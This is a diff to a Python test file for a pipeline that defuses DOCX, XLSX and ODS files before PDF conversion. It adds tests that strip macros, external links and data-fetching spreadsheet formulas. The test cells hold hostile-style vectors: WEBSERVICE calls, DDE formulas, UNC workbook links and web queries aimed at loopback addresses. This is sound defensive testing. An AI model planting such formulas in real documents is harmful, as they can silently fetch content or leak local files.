@@ -1,14 +1,19 @@
 """Office Anlagen defused: every reference out of the file goes, the rest stays as it was."""
 
 import io
+import socketserver
+import threading
+import time
 import zipfile
+from pathlib import Path
 
 import pytest
 from docx import Document
 from lxml import etree
 
 from pipeline.pdf import ConversionError, OfficeFileError, defuse
-from pipeline.pdf import office
+from pipeline.pdf import office, pdfa
+from spreadsheets import MAIN, formula_cell, hostile_ods, hostile_xlsx, write_xlsx
 
 W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 NS = (f'xmlns:w="{W}" '
@@ -272,7 +277,7 @@ def test_embedded_packages_are_defused_too(tmp_path):
                         **{"word/embeddings/tabelle.xlsx": inner.getvalue()})
     nested = parts(io.BytesIO(out["word/embeddings/tabelle.xlsx"]))
     assert b"geheim" not in nested["xl/externalLinks/_rels/externalLink1.xml.rels"]
-    assert removed == ["Verknüpfung file:///x/geheim.xlsx"]
+    assert removed == ["verknüpfte Arbeitsmappe file:///x/geheim.xlsx"]
 
 
 def test_the_content_decides_not_the_name(tmp_path):
@@ -284,11 +289,14 @@ def test_the_content_decides_not_the_name(tmp_path):
     assert defuse(tmp_path / "a.doc", tmp_path / "b.doc") == ["Bild http://x/b.png"]
 
 
+NOT_OFFICE = "keine DOCX-, ODT-, XLSX- oder ODS"
+
+
 @pytest.mark.parametrize("name, content, message", [
-    ("alt.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "Word-97-Dateien"),
-    ("text.doc", b"{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE x}}}", "keine DOCX- oder ODT"),
-    ("seite.docx", b"<html><img src='http://x/b.png'></html>", "keine DOCX- oder ODT"),
-    ("kaputt.docx", b"PK\x03\x04 not really a zip", "keine DOCX- oder ODT")])
+    ("alt.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "Excel-97-Dateien"),
+    ("text.doc", b"{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE x}}}", NOT_OFFICE),
+    ("seite.docx", b"<html><img src='http://x/b.png'></html>", NOT_OFFICE),
+    ("kaputt.docx", b"PK\x03\x04 not really a zip", NOT_OFFICE)])
 def test_what_cannot_be_defused_is_refused(tmp_path, name, content, message):
     (tmp_path / name).write_bytes(content)
     with pytest.raises(OfficeFileError, match=message):
@@ -320,3 +328,159 @@ def test_zip_bombs_are_refused(tmp_path, monkeypatch):
     package(tmp_path / "viele.docx", {f"t{i}.txt": "x" for i in range(6)})
     with pytest.raises(OfficeFileError, match="zu viele"):
         defuse(tmp_path / "viele.docx", tmp_path / "out.docx")
+
+
+# Issue 18: spreadsheets are defused by the same code, for what only they can hold.
+
+def outside(data: bytes, web: str, private) -> list[str]:
+    """What in a part still names the web server or the private folder."""
+    text = data.decode("utf-8", "replace")
+    return [mark for mark in (web, str(private), "WEBSERVICE", "ddeTopic", "webPr")
+            if mark in text]
+
+
+def test_an_xlsx_keeps_nothing_that_points_out_and_no_macros(tmp_path):
+    web, private = "http://127.0.0.1:9", tmp_path / "privat"
+    hostile_xlsx(tmp_path / "a.xlsx", web, private, "Sichtbar")
+    removed = defuse(tmp_path / "a.xlsx", tmp_path / "b.xlsx")
+    out = parts(tmp_path / "b.xlsx")
+    assert "xl/vbaProject.bin" not in out
+    for name, data in out.items():
+        leftover = outside(data, web, private)
+        if name == "xl/worksheets/_rels/sheet1.xml.rels":
+            # a web hyperlink is only followed when a reader clicks it, as in DOCX
+            assert leftover == [web] and b"seite.html" in data and b"geheim.txt" not in data
+        else:
+            assert leftover == [], name
+    assert b"vbaProject" not in out["xl/_rels/workbook.xml.rels"]
+    assert b"vbaProject" not in out["[Content_Types].xml"] or b'Extension="bin"' in out[
+        "[Content_Types].xml"]
+    sheet = xml(out["xl/worksheets/sheet1.xml"])
+    values = [el.text for el in sheet.iter(f"{{{MAIN}}}v")]
+    assert values == ["alter Kurs", "extern gezeigt", "lokal gezeigt"]  # as last shown
+    assert [el.text for el in sheet.iter(f"{{{MAIN}}}f")] == []
+    assert removed[0] == "Makros und aktive Inhalte (xl/vbaProject.bin)"
+    assert f"verknüpfte Arbeitsmappe {web}/mappe.xlsx" in removed
+    assert f'Formel _xlfn.WEBSERVICE("{web}/kurs")' in removed
+    assert f"Bild {web}/bild.png" in removed and f"Webabfrage {web}/abfrage.html" in removed
+    assert any(r.startswith("DDE-Verknüpfung file://") for r in removed)
+
+
+def test_formulas_that_fetch_go_and_the_others_stay(tmp_path):
+    cells = [formula_cell(f"A{i}", f, "w") for i, f in enumerate([
+        "SUM(B1:B3)", 'HYPERLINK("#Tabelle1!A1","Sprung")', 'FILTERXML(B1,"//a")',
+        'INDIRECT("B"&1)', 'DDE("soffice","x","A1")', "'\\\\server\\share\\[a.xlsx]T'!A1",
+        "[2]Tabelle1!A1"], 1)]
+    write_xlsx(tmp_path / "a.xlsx", [[c] for c in cells],
+               workbook_extra='<definedNames><definedName name="Kurs">_xlfn.WEBSERVICE('
+                              '"http://x/k")</definedName><definedName name="Summe">'
+                              "Tabelle1!$B$1</definedName></definedNames>")
+    defuse(tmp_path / "a.xlsx", tmp_path / "b.xlsx")
+    out = parts(tmp_path / "b.xlsx")
+    kept = [el.text for el in xml(out["xl/worksheets/sheet1.xml"]).iter(f"{{{MAIN}}}f")]
+    assert kept == ["SUM(B1:B3)", 'HYPERLINK("#Tabelle1!A1","Sprung")']
+    names = [el.get("name") for el in xml(out["xl/workbook.xml"]).iter(
+        f"{{{MAIN}}}definedName")]
+    assert names == ["Summe"]
+
+
+def test_shared_formulas_go_with_their_master(tmp_path):
+    master = ('<c r="A1" t="str"><f t="shared" ref="A1:A2" si="0">_xlfn.WEBSERVICE('
+              '"http://x/"&amp;B1)</f><v>eins</v></c>')
+    follower = '<c r="A2" t="str"><f t="shared" si="0"/><v>zwei</v></c>'
+    other = '<c r="A3"><f t="shared" ref="A3:A4" si="1">B3*2</f><v>4</v></c>'
+    write_xlsx(tmp_path / "a.xlsx", [[master], [follower], [other]])
+    defuse(tmp_path / "a.xlsx", tmp_path / "b.xlsx")
+    sheet = xml(parts(tmp_path / "b.xlsx")["xl/worksheets/sheet1.xml"])
+    assert [f.get("si") for f in sheet.iter(f"{{{MAIN}}}f")] == ["1"]
+    assert [v.text for v in sheet.iter(f"{{{MAIN}}}v")] == ["eins", "zwei", "4"]
+
+
+def test_an_ods_loses_its_linked_table_formulas_macros_and_listeners(tmp_path):
+    web, private = "http://127.0.0.1:9", tmp_path / "privat"
+    hostile_ods(tmp_path / "a.ods", web, private, "Sichtbar")
+    removed = defuse(tmp_path / "a.ods", tmp_path / "b.ods")
+    out = parts(tmp_path / "b.ods")
+    assert not [name for name in out if name.startswith("Basic/")]
+    assert b"Basic/" not in out["META-INF/manifest.xml"]
+    assert b"content.xml" in out["META-INF/manifest.xml"]
+    for name, data in out.items():
+        assert outside(data, web, private) == [], name
+    content = xml(out["content.xml"])
+    names = {etree.QName(el).localname for el in content.iter()}
+    assert not names & {"table-source", "event-listeners", "event-listener", "scripts"}
+    text = "".join(content.itertext())
+    assert "alter Kurs" in text and "lokal gezeigt" in text and "zuletzt geladen" in text
+    assert f"table:table-source {web}/quelle.ods" in removed
+    assert f'Formel of:=WEBSERVICE("{web}/kurs")' in removed
+    assert f"Verweis auf {web}/ods.png" in removed
+    assert removed[0].startswith("Makros und aktive Inhalte (Basic/")
+
+
+def test_a_vba_project_in_a_docx_goes_too(tmp_path):
+    Document().save(tmp_path / "a.docx")
+    with zipfile.ZipFile(tmp_path / "a.docx", "a") as z:
+        z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA")
+        z.writestr("word/activeX/activeX1.xml", "<ax:ocx xmlns:ax='x'/>")
+    removed = defuse(tmp_path / "a.docx", tmp_path / "b.docx")
+    assert removed == ["Makros und aktive Inhalte (word/activeX/activeX1.xml, "
+                       "word/vbaProject.bin)"]
+    assert not {"word/vbaProject.bin", "word/activeX/activeX1.xml"} & set(parts(
+        tmp_path / "b.docx"))
+
+
+class Listener(socketserver.ThreadingTCPServer):
+    """A server on 127.0.0.1 that records every connection it gets."""
+
+    daemon_threads = True
+    allow_reuse_address = True
+
+    def __init__(self):
+        self.seen: list[bytes] = []
+        super().__init__(("127.0.0.1", 0), ListenerAnswer)
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    @property
+    def url(self) -> str:
+        return f"http://127.0.0.1:{self.server_address[1]}"
+
+
+class ListenerAnswer(socketserver.BaseRequestHandler):
+    def handle(self):
+        self.request.settimeout(5)
+        try:
+            self.server.seen.append(self.request.recv(65536).split(b"\r\n", 1)[0])
+        except OSError:
+            self.server.seen.append(b"(nichts gelesen)")
+        self.request.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhallo")
+
+
+def test_converting_hostile_spreadsheets_reaches_no_server_and_no_file(tmp_path, converter):
+    from pypdf import PdfReader
+
+    private = tmp_path / "privat"
+    private.mkdir()
+    (private / "geheim.txt").write_text("Geheimnis aus der Datei", encoding="utf-8")
+    listener = Listener()
+    try:
+        # the files as they come: LibreOffice alone fetched the ODS's linked picture
+        for name, make in (("a.xlsx", hostile_xlsx), ("a.ods", hostile_ods)):
+            make(tmp_path / name, listener.url, private, name[2:].upper())
+            safe = tmp_path / f"sicher-{name}"
+            defuse(tmp_path / name, safe)
+            converter.convert(safe, tmp_path / f"{name}.pdf")
+            converter.convert(safe, tmp_path / f"{name}-final.pdf", tagged=True, pdfa=True)
+        time.sleep(0.5)  # a fetch started late would still be seen
+    finally:
+        listener.shutdown()
+        listener.server_close()
+    assert listener.seen == []
+    for name in ("a.xlsx", "a.ods"):
+        text = "".join(page.extract_text() for page in PdfReader(
+            str(tmp_path / f"{name}.pdf")).pages)
+        assert name[2:].upper() in text and "alter Kurs" in text and "lokal gezeigt" in text
+        assert "Geheimnis" not in text
+        final = tmp_path / f"{name}-final.pdf"
+        assert pdfa.identification(final).pdfa == "2B"  # Calc exports PDF/A like Writer
+        assert pdfa.problems(final) == []
+    assert not Path("/tmp/makro-lief").exists()
